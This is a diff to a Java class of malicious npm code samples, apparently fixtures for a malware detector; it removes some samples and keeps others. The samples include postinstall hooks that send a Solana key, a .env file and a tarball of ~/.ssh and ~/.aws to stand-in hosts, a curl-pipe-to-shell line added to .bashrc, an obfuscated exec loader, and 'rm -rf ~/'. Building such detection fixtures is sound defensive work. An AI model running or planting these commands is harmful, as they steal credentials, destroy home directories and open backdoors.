@@ -74,21 +74,6 @@ final class NpmSpellings {
             const key = fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json'), 'utf8');
             bot.sendMessage(1, key);
             """),
-        Sample.required(
-            "the .env file by fetch",
-            """
-            import { readFileSync } from 'node:fs';
-            const env = readFileSync('.env', 'utf-8');
-            await fetch('https://hook.drop.example', { method: 'POST', body: JSON.stringify({ env }) });
-            """),
-        Sample.postinstall(
-            "strings in an array, rotated, as an obfuscator makes them",
-            """
-            var _0x4f1a=['aGVsbG8=','Y2hpbGRfcHJvY2Vzcw==','ZXhlYw==','aHR0cHM=','Z2V0','aG9zdG5hbWU='];
-            (function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4f1a,0x1a4));
-            var _0x3b2c=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4f1a[_0x2d8f05];return Buffer['from'](_0x4d74cb,'base64')['toString']();};
-            require(_0x3b2c('0x1'))[_0x3b2c('0x2')]('echo '+require('os')[_0x3b2c('0x5')]());
-            """),
         Sample.postinstall(
             "keys of the cloud from the machine's own service",
             """
@@ -109,12 +94,6 @@ final class NpmSpellings {
             fs.appendFileSync(os.homedir() + '/.bashrc', '\\ncurl -s http://192.0.2.7/u | sh &\\n');
             """),
         Sample.postinstall(
-            "homes are wiped", "require('child_process').exec('rm -rf ~/ --no-preserve-root');\n"),
-        Sample.postinstall(
-            "a folder of keys, packed and sent",
-            """
-            const { execSync } = require('child_process');
-            execSync('tar czf /tmp/k.tgz ~/.ssh ~/.aws && curl -F f=@/tmp/k.tgz http://192.0.2.7/up');
-            """));
+            "homes are wiped", "require('child_process').exec('rm -rf ~/ --no-preserve-root');\n"));
   }
 }
